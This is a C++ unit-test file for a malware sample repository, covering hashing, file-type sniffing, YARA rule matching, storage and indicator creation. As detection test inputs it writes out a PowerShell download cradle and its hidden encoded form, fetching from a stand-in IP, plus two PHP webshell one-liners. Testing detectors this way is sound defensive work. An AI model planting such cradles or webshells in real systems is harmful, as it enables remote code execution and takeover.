// The malware repository: hashing, magic sniffing, the bundled YARA rules (what they match and
// what they must not), rules folders that do not compile, content-addressed storage, merging
// re-uploads, look-up by any hash, limits, and the indicator a matching sample becomes.
#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "intel/repository.h"
#include "intel/samples.h"
#include "store/sqlite/sqlite_store.h"

namespace lachan::intel {
namespace {

namespace fs = std::filesystem;
constexpr int64_t kNow = 1'750'000'000'000;

// Built from two halves so that this source file is not itself taken for the test file.
std::string eicar() {
  return std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-") + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
}

std::string bundled_rules() {
  return std::string(LACHAN_SOURCE_DIR) + "/config/yara";
}

std::shared_ptr<const YaraScanner> bundled_scanner() {
  auto s = YaraScanner::load(bundled_rules());
  EXPECT_TRUE(s.ok()) << (s.ok() ? "" : s.error().message);
  return s.ok() ? *s : nullptr;
}

// A PE32 header whose section table names UPX0 and UPX1, as UPX writes it.
std::string upx_pe(bool with_pe_signature = true) {
  std::string b(0x400, '\0');
  b[0] = 'M';
  b[1] = 'Z';
  b[0x3c] = static_cast<char>(0x80);
  if (with_pe_signature) b.replace(0x80, 4, std::string("PE\0\0", 4));
  b[0x80 + 24] = 0x0b;  // optional header magic 0x10b: PE32
  b[0x80 + 25] = 0x01;
  size_t sections = 0x80 + 24 + 0xe0;
  b.replace(sections, 8, std::string("UPX0\0\0\0\0", 8));
  b.replace(sections + 40, 8, std::string("UPX1\0\0\0\0", 8));
  return b;
}

std::string base64_utf16le(std::string_view text) {
  std::string wide;
  for (char c : text) {
    wide.push_back(c);
    wide.push_back('\0');
  }
  std::string out(4 * ((wide.size() + 2) / 3) + 1, '\0');
  int n = EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
                          reinterpret_cast<const unsigned char*>(wide.data()), static_cast<int>(wide.size()));
  out.resize(static_cast<size_t>(n));
  return out;
}

std::vector<std::string> rules_matching(const YaraScanner& s, std::string_view bytes) {
  auto m = s.scan(bytes);
  EXPECT_TRUE(m.ok());
  std::vector<std::string> out;
  if (m.ok())
    for (const auto& x : *m) out.push_back(x.rule);
  return out;
}

class TempDir {
 public:
  TempDir() {
    path_ =
        fs::temp_directory_path() / ("lachan-samples-" + std::to_string(::getpid()) + "-" + std::to_string(counter_++));
    fs::remove_all(path_);
    fs::create_directories(path_);
  }
  ~TempDir() {
    std::error_code ec;
    // Samples are 0400 in 0755 folders: removable by their owner.
    fs::remove_all(path_, ec);
  }
  const fs::path& path() const { return path_; }

 private:
  static inline int counter_ = 0;
  fs::path path_;
};

void write(const fs::path& p, std::string_view text) {
  fs::create_directories(p.parent_path());
  std::ofstream(p) << text;
}

// ---- Hashes and magic ----

TEST(Samples, HashesKnownValues) {
  auto h = hash_sample("abc");
  EXPECT_EQ(h.md5, "900150983cd24fb0d6963f7d28e17f72");
  EXPECT_EQ(h.sha1, "a9993e364706816aba3e25717850c26c9cd0d89d");
  EXPECT_EQ(h.sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  // A million 'a' spans many 64 KiB chunks and ends in a partial one.
  auto m = hash_sample(std::string(1'000'000, 'a'));
  EXPECT_EQ(m.md5, "7707d6ae4e027c70eea2a935c2296f21");
  EXPECT_EQ(m.sha1, "34aa973cd4c4daa4f61eeb2bdbad27316534016f");
  EXPECT_EQ(m.sha256, "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Samples, SniffsMagicWithinBounds) {
  EXPECT_EQ(sniff_magic(upx_pe()), "PE32");
  std::string pe64 = upx_pe();
  pe64[0x80 + 24] = 0x0b;
  pe64[0x80 + 25] = 0x02;
  EXPECT_EQ(sniff_magic(pe64), "PE32+");
  EXPECT_EQ(sniff_magic(upx_pe(false)), "MZ");
  EXPECT_EQ(sniff_magic("MZ"), "MZ");
  // e_lfanew pointing past the end, or at the very end: no read beyond the bytes.
  std::string far(0x40, '\0');
  far[0] = 'M';
  far[1] = 'Z';
  far[0x3c] = far[0x3d] = far[0x3e] = far[0x3f] = static_cast<char>(0xff);
  EXPECT_EQ(sniff_magic(far), "MZ");
  far[0x3c] = 0x3c;
  far[0x3d] = far[0x3e] = far[0x3f] = 0;
  EXPECT_EQ(sniff_magic(far), "MZ");
  std::string cut = upx_pe().substr(0, 0x80 + 25);  // PE signature present, optional header cut
  EXPECT_EQ(sniff_magic(cut), "MZ");
  EXPECT_EQ(sniff_magic("\177ELF\x02\x01"), "ELF");
  EXPECT_EQ(sniff_magic("PK\x03\x04rest"), "ZIP");
  EXPECT_EQ(sniff_magic("%PDF-1.7\n"), "PDF");
  EXPECT_EQ(sniff_magic("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "OLE");
  EXPECT_EQ(sniff_magic("#!/bin/sh\n"), "SCRIPT");
  EXPECT_EQ(sniff_magic(std::string_view("\x1f\x8b\x08\x00", 4)), "GZIP");
  EXPECT_EQ(sniff_magic(""), "unknown");
  EXPECT_EQ(sniff_magic("P"), "unknown");
  EXPECT_EQ(sniff_magic("hello"), "unknown");
}

// ---- YARA ----

TEST(Samples, BundledRulesMatchWhatTheyDescribe) {
  auto s = bundled_scanner();
  ASSERT_TRUE(s);
  EXPECT_GE(s->rule_files(), 4u);

  auto m = s->scan(eicar() + "\r\n");
  ASSERT_TRUE(m.ok());
  ASSERT_EQ(m->size(), 1u);
  EXPECT_EQ((*m)[0].rule, "EICAR_Test_File");
  EXPECT_EQ((*m)[0].ns, "eicar");
  EXPECT_EQ((*m)[0].family, "EICAR-Test-File");
  EXPECT_EQ((*m)[0].tags, (std::vector<std::string>{"test", "eicar"}));

  EXPECT_EQ(rules_matching(*s, upx_pe()), (std::vector<std::string>{"UPX_Packed_PE"}));
  std::string cmd = "powershell.exe -NoP -W Hidden -Enc " +
                    base64_utf16le("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')");
  EXPECT_EQ(rules_matching(*s, cmd), (std::vector<std::string>{"PowerShell_EncodedCommand_Downloader"}));
  EXPECT_EQ(rules_matching(*s, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"),
            (std::vector<std::string>{"PowerShell_Download_Cradle"}));
  EXPECT_EQ(rules_matching(*s, "<?php @eval($_POST['pass']);?>"),
            (std::vector<std::string>{"PHP_Webshell_Eval_Request"}));
  EXPECT_EQ(rules_matching(*s, "<?php eval(base64_decode($_REQUEST['c'])); ?>"),
            (std::vector<std::string>{"PHP_Webshell_Eval_Request"}));
}

TEST(Samples, BundledRulesLeaveNormalFilesAlone) {
  auto s = bundled_scanner();
  ASSERT_TRUE(s);
  EXPECT_TRUE(rules_matching(*s, "hello world\n").empty());
  EXPECT_TRUE(rules_matching(*s, "").empty());
  // EICAR not at the start, or with more than 128 bytes, is not the test file.
  EXPECT_TRUE(rules_matching(*s, "x" + eicar()).empty());
  EXPECT_TRUE(rules_matching(*s, eicar() + std::string(100, ' ')).empty());
  EXPECT_TRUE(rules_matching(*s, upx_pe(false)).empty());
  // PowerShell with an encoded command that does not download; PHP that evals its own code.
  std::string benign =
      "powershell.exe -NoProfile -EncodedCommand " + base64_utf16le("Get-ChildItem C:\\Windows | Out-File list.txt");
  EXPECT_TRUE(rules_matching(*s, benign).empty());
  EXPECT_TRUE(rules_matching(*s, "<?php $x = base64_decode($_POST['img']); eval($code); ?>").empty());
  // Real binaries and scripts of the system.
  for (const char* p : {"/bin/ls", "/bin/sh", "/usr/bin/env", "/etc/passwd"}) {
    std::ifstream in(p, std::ios::binary);
    if (!in) continue;
    std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    EXPECT_TRUE(rules_matching(*s, bytes).empty()) << p;
  }
}

TEST(Samples, RulesFolderErrorsNameFileAndLine) {
  TempDir d;
  auto missing = YaraScanner::load((d.path() / "nope").string());
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(missing.error().code, Errc::invalid_config);

  auto empty = YaraScanner::load(d.path().string());
  ASSERT_FALSE(empty.ok());
  EXPECT_EQ(empty.error().code, Errc::invalid_config);

  write(d.path() / "a_good.yar", "rule good { strings: $a = \"abc\" condition: $a }\n");
  write(d.path() / "sub" / "broken.yara",
        "rule ok2 { condition: true }\n\nrule broken {\n  condition: true and and\n}\n");
  auto bad = YaraScanner::load(d.path().string());
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code, Errc::invalid_config);
  EXPECT_NE(bad.error().message.find("broken.yara:4"), std::string::npos) << bad.error().message;

  fs::remove(d.path() / "sub" / "broken.yara");
  write(d.path() / "notes.txt", "not a rule file");
  auto good = YaraScanner::load(d.path().string());
  ASSERT_TRUE(good.ok()) << good.error().message;
  EXPECT_EQ((*good)->rule_files(), 1u);
  EXPECT_EQ(rules_matching(**good, "xxabcxx"), (std::vector<std::string>{"good"}));
}

TEST(Samples, FamilyFromMalwareFamilyMetaOrRuleName) {
  TempDir d;
  write(d.path() / "r.yar",
        "rule with_meta : t1 { meta: malware_family = \"Emotet\" strings: $a = \"emo\" condition: $a }\n"
        "rule bare { strings: $a = \"bare\" condition: $a }\n");
  auto s = YaraScanner::load(d.path().string());
  ASSERT_TRUE(s.ok()) << s.error().message;
  auto m = (*s)->scan("emo");
  ASSERT_TRUE(m.ok());
  ASSERT_EQ(m->size(), 1u);
  EXPECT_EQ((*m)[0].family, "Emotet");

  auto st = store::open_sqlite_store((d.path() / "db").string());
  ASSERT_TRUE(st.ok());
  SampleRepository repo((d.path() / "samples").string(), **st, *s);
  auto out = repo.submit("a bare file", "x.bin", {"org-a", "key:1", kNow});
  ASSERT_TRUE(out.ok()) << out.error().message;
  EXPECT_EQ(out->record.family, "bare");  // no family meta: the rule's name
}

// ---- The repository ----

class SampleRepo : public ::testing::Test {
 protected:
  void SetUp() override {
    auto st = store::open_sqlite_store((dir.path() / "lachan.db").string());
    ASSERT_TRUE(st.ok());
    store = std::move(*st);
    scanner = bundled_scanner();
    ASSERT_TRUE(scanner);
    repo = std::make_unique<SampleRepository>((dir.path() / "samples").string(), *store, scanner, options());
  }
  virtual SampleOptions options() { return {}; }

  TempDir dir;
  std::unique_ptr<store::Store> store;
  std::shared_ptr<const YaraScanner> scanner;
  std::unique_ptr<SampleRepository> repo;
};

TEST_F(SampleRepo, StoresEicarContentAddressedReadOnlyWithItsIndicator) {
  std::string bytes = eicar();
  auto h = hash_sample(bytes);
  auto out = repo->submit(bytes, "C:\\Users\\x\\Downloads\\eicar.com", {"org-a", "key:a1", kNow});
  ASSERT_TRUE(out.ok()) << out.error().message;
  EXPECT_TRUE(out->created);
  const SampleRecord& r = out->record;
  EXPECT_EQ(r.sha256, h.sha256);
  EXPECT_EQ(r.md5, h.md5);
  EXPECT_EQ(r.sha1, h.sha1);
  EXPECT_EQ(r.size, bytes.size());
  EXPECT_EQ(r.file_name, "eicar.com");
  EXPECT_EQ(r.magic, "unknown");
  EXPECT_EQ(r.family, "EICAR-Test-File");
  EXPECT_EQ(r.tags, (std::vector<std::string>{"test", "eicar"}));
  EXPECT_EQ(r.first_seen_ms, kNow);
  EXPECT_EQ(r.submitted_by, (std::vector<SampleSubmitter>{{"org-a", "key:a1", kNow}}));

  fs::path p = dir.path() / "samples" / h.sha256.substr(0, 2) / h.sha256;
  EXPECT_EQ(repo->path_of(h.sha256), p.string());
  struct stat st {};
  ASSERT_EQ(::stat(p.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0400u);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  // Nothing but the sample in its folder: the temporary file was renamed.
  EXPECT_EQ(std::distance(fs::directory_iterator(p.parent_path()), fs::directory_iterator()), 1);
  auto content = repo->open_content(h.sha256);
  ASSERT_TRUE(content.ok());
  EXPECT_EQ(*content, bytes);

  ASSERT_TRUE(out->indicator);
  const Indicator& ind = *out->indicator;
  EXPECT_EQ(ind.ref, "sample--" + h.sha256);
  EXPECT_EQ(ind.name, "EICAR-Test-File sample eicar.com");
  EXPECT_EQ(ind.source, "lachan-samples");
  EXPECT_EQ(ind.tlp, Tlp::amber);
  EXPECT_EQ(ind.confidence, 80);
  EXPECT_EQ(ind.tags, (std::vector<std::string>{"EICAR-Test-File", "test", "eicar"}));
  EXPECT_EQ(ind.any_of, (std::vector<std::vector<Observable>>{
                            {{ValueType::md5, h.md5}}, {{ValueType::sha1, h.sha1}}, {{ValueType::sha256, h.sha256}}}));
  EXPECT_EQ(ind.pattern, "[file:hashes.MD5 = '" + h.md5 + "'] OR [file:hashes.'SHA-1' = '" + h.sha1 +
                             "'] OR [file:hashes.'SHA-256' = '" + h.sha256 + "']");
  // Stored in the national collection, and found by the matcher's snapshot by any hash.
  store::IntelQuery q;
  q.collections = {"national"};
  q.refs = {ind.ref};
  auto page = store->query_intel(q);
  ASSERT_TRUE(page.ok());
  ASSERT_EQ(page->items.size(), 1u);
  auto back = indicator_from_json(page->items[0].body);
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->any_of, ind.any_of);
  Repository intel(*store);
  auto snap = intel.snapshot(kNow + 1);
  ASSERT_TRUE(snap.ok());
  EXPECT_EQ((*snap)->size(), 1u);
}

TEST_F(SampleRepo, CleanFileHasNoFamilyAndNoIndicator) {
  auto out = repo->submit("just some text\n", "notes.txt", {"org-a", "key:a1", kNow});
  ASSERT_TRUE(out.ok());
  EXPECT_TRUE(out->created);
  EXPECT_TRUE(out->record.yara.empty());
  EXPECT_EQ(out->record.family, "");
  EXPECT_FALSE(out->indicator);
  EXPECT_FALSE(sample_indicator(out->record));
  auto page = store->query_intel(store::IntelQuery{});
  ASSERT_TRUE(page.ok());
  EXPECT_TRUE(page->items.empty());
}

TEST_F(SampleRepo, ReuploadMergesSubmittersWithoutRewriting) {
  std::string bytes = eicar();
  auto first = repo->submit(bytes, "a.com", {"org-a", "key:a1", kNow});
  ASSERT_TRUE(first.ok());
  std::string path = repo->path_of(first->record.sha256);
  struct stat before {};
  ASSERT_EQ(::stat(path.c_str(), &before), 0);

  auto second = repo->submit(bytes, "b.com", {"org-b", "user:bob", kNow + 5000});
  ASSERT_TRUE(second.ok());
  EXPECT_FALSE(second->created);
  EXPECT_FALSE(second->indicator);
  auto again = repo->submit(bytes, "c.com", {"org-a", "key:a1", kNow + 9000});  // the same submitter: no new entry
  ASSERT_TRUE(again.ok());

  auto r = repo->get(first->record.sha256);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->file_name, "a.com");
  EXPECT_EQ(r->first_seen_ms, kNow);
  EXPECT_EQ(r->last_seen_ms, kNow + 9000);
  EXPECT_EQ(r->submitted_by,
            (std::vector<SampleSubmitter>{{"org-a", "key:a1", kNow}, {"org-b", "user:bob", kNow + 5000}}));
  EXPECT_EQ(r->family, "EICAR-Test-File");
  struct stat after {};
  ASSERT_EQ(::stat(path.c_str(), &after), 0);
  EXPECT_EQ(after.st_ino, before.st_ino);
  EXPECT_EQ(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
  EXPECT_EQ(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
}

TEST_F(SampleRepo, LooksUpByAnyHashInAnyCase) {
  auto out = repo->submit("abc", "abc.txt", {"org-a", "key:a1", kNow});
  ASSERT_TRUE(out.ok());
  for (std::string h : {"900150983cd24fb0d6963f7d28e17f72", "A9993E364706816ABA3E25717850C26C9CD0D89D",
                        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"}) {
    auto r = repo->get(h);
    ASSERT_TRUE(r.ok()) << h;
    EXPECT_EQ(r->sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    EXPECT_EQ(r->size, 3u);
  }
  auto unknown = repo->get(std::string(64, '0'));
  ASSERT_FALSE(unknown.ok());
  EXPECT_EQ(unknown.error().code, Errc::not_found);
  auto unknown_md5 = repo->get(std::string(32, 'f'));
  ASSERT_FALSE(unknown_md5.ok());
  EXPECT_EQ(unknown_md5.error().code, Errc::not_found);
  for (const std::string& bad : std::vector<std::string>{"", "xyz", std::string(63, 'a'), std::string(64, 'g'),
                                                         std::string("../../etc/passwd")}) {
    auto r = repo->get(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code, Errc::malformed) << bad;
  }
  auto content = repo->open_content(std::string(64, '1'));
  ASSERT_FALSE(content.ok());
  EXPECT_EQ(content.error().code, Errc::not_found);
}

class SmallSampleRepo : public SampleRepo {
  SampleOptions options() override {
    SampleOptions o;
    o.max_bytes = 16;
    return o;
  }
};

TEST_F(SmallSampleRepo, RefusesOversizeAndEmptySamplesStoringNothing) {
  auto big = repo->submit(std::string(17, 'x'), "big.bin", {"org-a", "key:a1", kNow});
  ASSERT_FALSE(big.ok());
  EXPECT_EQ(big.error().code, Errc::limit);
  auto empty = repo->submit("", "empty.bin", {"org-a", "key:a1", kNow});
  ASSERT_FALSE(empty.ok());
  EXPECT_EQ(empty.error().code, Errc::malformed);
  auto page = repo->list(100, "");
  ASSERT_TRUE(page.ok());
  EXPECT_TRUE(page->items.empty());
  EXPECT_FALSE(fs::exists(dir.path() / "samples") && !fs::is_empty(dir.path() / "samples"));
  EXPECT_TRUE(repo->submit(std::string(16, 'x'), "ok.bin", {"org-a", "key:a1", kNow}).ok());
}

TEST_F(SampleRepo, ListsPagesInHashOrderFilteredByVisibility) {
  std::vector<std::string> shas;
  for (int i = 0; i < 5; ++i) {
    auto out = repo->submit("sample " + std::to_string(i), "", {i % 2 ? "org-b" : "org-a", "key:x", kNow + i});
    ASSERT_TRUE(out.ok());
    shas.push_back(out->record.sha256);
  }
  std::sort(shas.begin(), shas.end());
  std::vector<std::string> seen;
  std::string cursor;
  int pages = 0;
  do {
    auto p = repo->list(2, cursor);
    ASSERT_TRUE(p.ok());
    for (const auto& r : p->items) seen.push_back(r.sha256);
    cursor = p->next_cursor;
    ++pages;
  } while (!cursor.empty() && pages < 10);
  EXPECT_EQ(seen, shas);
  EXPECT_EQ(pages, 3);

  auto only_b = repo->list(100, "", [](const SampleRecord& r) { return r.submitted_by[0].org == "org-b"; });
  ASSERT_TRUE(only_b.ok());
  EXPECT_EQ(only_b->items.size(), 2u);
  auto bad = repo->list(10, "not-a-cursor");
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code, Errc::malformed);
}

TEST(Samples, RecordJsonRoundTrips) {
  SampleRecord r;
  auto h = hash_sample("x");
  r.sha256 = h.sha256;
  r.md5 = h.md5;
  r.sha1 = h.sha1;
  r.size = 1;
  r.file_name = "x \"quoted\".exe";
  r.magic = "PE32";
  r.first_seen_ms = kNow;
  r.last_seen_ms = kNow + 1234;
  r.submitted_by = {{"org-a", "key:1", kNow}, {"org-b", "user:u", kNow + 1234}};
  r.yara = {{"R1", "ns", {"t1", "t2"}, "Fam"}, {"R2", "ns", {}, ""}};
  r.family = "Fam";
  r.tags = {"t1", "t2"};
  auto back = sample_from_json(sample_to_json(r));
  ASSERT_TRUE(back.ok()) << back.error().message;
  EXPECT_EQ(sample_to_json(*back), sample_to_json(r));
  EXPECT_EQ(back->submitted_by, r.submitted_by);
  EXPECT_EQ(back->yara, r.yara);
  EXPECT_EQ(back->last_seen_ms, kNow + 1234);

  auto bad = sample_from_json("{\"sha256\":\"abc\"}");
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code, Errc::malformed);
}

}  // namespace
}  // namespace lachan::intel
